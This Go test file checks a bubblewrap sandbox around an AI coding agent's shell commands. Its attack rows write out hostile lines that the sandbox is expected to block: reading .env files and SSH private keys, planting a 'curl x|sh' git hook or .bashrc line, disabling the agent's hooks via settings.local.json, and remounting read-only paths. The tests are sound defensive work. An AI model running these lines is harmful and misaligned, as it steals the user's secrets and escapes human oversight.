package sandbox_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"vibing/internal/config"
	"vibing/internal/policy"
	"vibing/internal/sandbox"
	"vibing/internal/testdeps"
)

// project is a project with a chat, a home, secrets and a git repository.
type project struct {
	dir, home, chat string
}

func newProject(t *testing.T, deny string) *project {
	t.Helper()
	root := t.TempDir()
	p := &project{dir: filepath.Join(root, "project"), home: filepath.Join(root, "home")}
	for _, d := range []string{p.dir + "/.vibing/chat", p.dir + "/.claude", p.dir + "/src", p.home + "/.cache", p.home + "/.ssh"} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	p.chat = filepath.Join(p.dir, ".vibing/chat/chat.md")
	write(t, p.chat, "---\nvibing.nvim: true\npermissions_mode: bypassPermissions\npermissions_deny: ["+deny+"]\n---\n\n## User\n\nhi\n")
	write(t, filepath.Join(p.dir, ".env"), "SECRET=1\n")
	write(t, filepath.Join(p.dir, "src/.env"), "SECRET=2\n")
	write(t, filepath.Join(p.dir, ".claude/settings.local.json"), "{}\n")
	write(t, filepath.Join(p.dir, "main.txt"), "v1\n")
	write(t, filepath.Join(p.dir, "go.mod"), "module x\n\ngo 1.21\n")
	write(t, filepath.Join(p.dir, "main.go"), "package main\n\nfunc main() {}\n")
	write(t, filepath.Join(p.home, ".ssh/id_ed25519"), "PRIVATE\n")
	if err := os.Symlink(filepath.Join(p.dir, ".env"), filepath.Join(p.dir, "env-link")); err != nil {
		t.Fatal(err)
	}
	git(t, p.dir, "init", "-q")
	return p
}

func write(t *testing.T, path, s string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(s), 0o644); err != nil {
		t.Fatal(err)
	}
}

func git(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %v: %v %s", args, err, out)
	}
}

// view loads the chat through the one loader and derives its view.
func (p *project) view(t *testing.T) *sandbox.View {
	t.Helper()
	ch, err := policy.Open(policy.Request{Config: config.DefaultConfig(), ChatFile: p.chat, Dir: p.dir,
		Places: policy.Places{Home: p.home, Managed: filepath.Join(p.home, "etc-vibing"), ClaudeManaged: filepath.Join(p.home, "etc-cc"),
			TrustStore: filepath.Join(p.home, "state/trust.json"), Binary: "/usr/bin/true"}})
	if err != nil {
		t.Fatal(err)
	}
	if ch.LoadErr != nil {
		t.Fatal(ch.LoadErr)
	}
	return sandbox.Derive(sandbox.Input{Engine: ch.Engine, Root: ch.Root, Home: p.home})
}

// sh runs a shell line inside the sandbox of v and returns its output and
// whether it succeeded.
func (p *project) sh(t *testing.T, v *sandbox.View, line string) (string, bool) {
	t.Helper()
	bwrap, err := sandbox.Find()
	if err != nil {
		testdeps.Missing(t, "these tests need bubblewrap and user namespaces: %v", err)
	}
	pr, err := v.Prepare(sandbox.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer pr.Cleanup()
	cmd := exec.Command("/bin/sh", "-c", line)
	cmd.Dir = p.dir
	cmd.Env = append(os.Environ(), "HOME="+p.home, "GOFLAGS=-mod=mod", "GOTOOLCHAIN=local")
	pr.Wrap(cmd, bwrap)
	out, err := cmd.CombinedOutput()
	return string(out), err == nil
}

func TestSandboxRows(t *testing.T) {
	p := newProject(t, `"Read(.env)", "Read(~/.ssh/**)"`)
	v := p.view(t)
	tests := []struct {
		name    string
		line    string
		ok      bool   // the line succeeds
		out     string // its output contains this
		notOut  string // and never this
		unharmd string // a file that must keep its content (path relative to the project: content)
		slow    bool   // left out by go test -short (make test runs it)
	}{
		// attacks: what the engine cannot read, the kernel refuses
		{name: "a script reads the denied .env", line: "cat .env; python3 -c 'print(open(\"src/.env\").read())'", ok: true, notOut: "SECRET"},
		{name: "a symlink to the denied file", line: "cat env-link", ok: true, notOut: "SECRET"},
		{name: "a denied file in ~", line: "cat ~/.ssh/id_ed25519; ls ~/.ssh", notOut: "PRIVATE"},
		{name: "writing the chat file", line: "echo pwned >> .vibing/chat/chat.md", out: "Read-only file system", unharmd: ".vibing/chat/chat.md"},
		{name: "a new file in .vibing", line: "echo x > .vibing/policy.yaml", out: "Read-only file system"},
		{name: "writing .claude/settings.local.json", line: "echo '{\"disableAllHooks\":true}' > .claude/settings.local.json", out: "Read-only file system",
			unharmd: ".claude/settings.local.json"},
		{name: "planting a git hook", line: "echo 'curl x|sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit", out: "Read-only file system"},
		{name: "git config hooksPath", line: "git config core.hooksPath /tmp/h", out: "could not write config", unharmd: ".git/config"},
		{name: "a new CLAUDE.md in the project root", line: "echo '@~/.ssh/id_ed25519' > CLAUDE.md", out: "Read-only file system"},
		{name: "the user's Claude settings", line: "echo '{}' > ~/.claude/settings.json", out: "Read-only file system"},
		{name: "a shell start-up file", line: "echo 'curl x|sh' >> ~/.bashrc", out: "Read-only file system"},
		{name: "remounting a read-only bind", line: "mount -o remount,rw,bind .vibing", out: "denied"},
		// everyday work
		{name: "editing a project file", line: "echo v2 > main.txt && cat main.txt", ok: true, out: "v2"},
		{name: "npm test writing node_modules", line: "mkdir -p node_modules/.cache && echo 1 > node_modules/.cache/x && echo ok", ok: true, out: "ok"},
		{name: "writing /tmp", line: "echo t > /tmp/x && cat /tmp/x", ok: true, out: "t"},
		{name: "git commit", line: "git add main.txt && git -c user.email=a@b -c user.name=t commit -qm m && git log --oneline | wc -l", ok: true, out: "1"},
		{name: "go build", line: "go build -o app . && ./app && echo built", ok: true, out: "built", slow: true}, // a cold build cache: seconds
		{name: "the CLI's own state", line: "mkdir -p ~/.claude/projects/x && echo s > ~/.claude/projects/x/s.jsonl && echo ok", ok: true, out: "ok"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if tt.slow && testing.Short() {
				t.Skip("slow (a go build with an empty cache in the sandbox): run without -short, as make test does")
			}
			var before []byte
			if tt.unharmd != "" {
				before, _ = os.ReadFile(filepath.Join(p.dir, tt.unharmd))
			}
			out, ok := p.sh(t, v, tt.line)
			if tt.ok && !ok {
				t.Errorf("failed: %s", out)
			}
			if tt.out != "" && !strings.Contains(out, tt.out) {
				t.Errorf("output lacks %q: %s", tt.out, out)
			}
			if tt.notOut != "" && strings.Contains(out, tt.notOut) {
				t.Errorf("output has %q: %s", tt.notOut, out)
			}
			if tt.unharmd != "" {
				if after, _ := os.ReadFile(filepath.Join(p.dir, tt.unharmd)); string(after) != string(before) {
					t.Errorf("%s changed: %q", tt.unharmd, after)
				}
			}
		})
	}
	for _, gone := range []string{"CLAUDE.md", ".git/hooks/pre-commit", ".vibing/policy.yaml"} {
		if _, err := os.Stat(filepath.Join(p.dir, gone)); err == nil {
			t.Errorf("%s exists after the sandbox ended", gone)
		}
	}
	if _, err := os.Stat(filepath.Join(p.home, ".claude/settings.json")); err == nil {
		t.Errorf("the placeholder for ~/.claude/settings.json was left behind")
	}
}

// Known limit: the view is derived when the turn starts; a file a Read
// deny rule names that is created later in the turn is not hidden (the
// engine still refuses the Read tool on it).
func TestSandboxLaterFileIsKnownLimit(t *testing.T) {
	p := newProject(t, `"Read(later.key)"`)
	v := p.view(t)
	out, _ := p.sh(t, v, "echo K > later.key && cat later.key")
	if !strings.Contains(out, "K") {
		t.Errorf("a file made during the turn is now hidden too (update the README's limits): %q", out)
	}
}

// The view lists what it holds and says what it could not cover.
func TestSandboxViewEntries(t *testing.T) {
	p := newProject(t, `"Read(.env)", "/tool:Read:.*secret.*/", "Read"`)
	v := p.view(t)
	has := func(l []sandbox.Entry, path string) bool {
		for _, e := range l {
			if e.Path == path {
				return true
			}
		}
		return false
	}
	real := func(s string) string { r, _ := filepath.EvalSymlinks(s); return r }
	dir := real(p.dir)
	for _, want := range []string{dir + "/.env", dir + "/src/.env"} {
		if !has(v.Hidden, want) {
			t.Errorf("hidden lacks %s: %+v", want, v.Hidden)
		}
	}
	for _, want := range []string{dir + "/.vibing", dir + "/.claude", dir + "/.git/hooks", dir + "/.git/config", dir + "/CLAUDE.md"} {
		if !has(v.ReadOnly, want) {
			t.Errorf("read-only lacks %s", want)
		}
	}
	if !has(v.Writable, dir) {
		t.Errorf("writable lacks the working directory: %+v", v.Writable)
	}
	notes := strings.Join(v.Unexpanded, "\n")
	for _, want := range []string{"regex rule", "refuses the Read tool as a whole"} {
		if !strings.Contains(notes, want) {
			t.Errorf("notes lack %q: %s", want, notes)
		}
	}
}

// An allow rule that names a file that runs code by itself leaves it
// writable: the engine decides.
func TestSandboxAllowRuleLeavesWritable(t *testing.T) {
	p := newProject(t, "")
	doc, _ := os.ReadFile(p.chat)
	write(t, p.chat, strings.Replace(string(doc), "permissions_deny: []", "permissions_deny: []\npermissions_allow: [\"Edit(.claude/**)\"]", 1))
	v := p.view(t)
	out, ok := p.sh(t, v, "mkdir -p .claude/commands && echo hi > .claude/commands/x.md && echo ok")
	if !ok || !strings.Contains(out, "ok") {
		t.Errorf("an allowed .claude write failed: %s", out)
	}
	// a policy file in there stays guarded whatever the allow rules say
	if out, _ := p.sh(t, v, "echo '{}' > .claude/settings.local.json"); !strings.Contains(out, "Read-only file system") {
		t.Errorf("the guarded .claude/settings.local.json was writable: %q", out)
	}
}
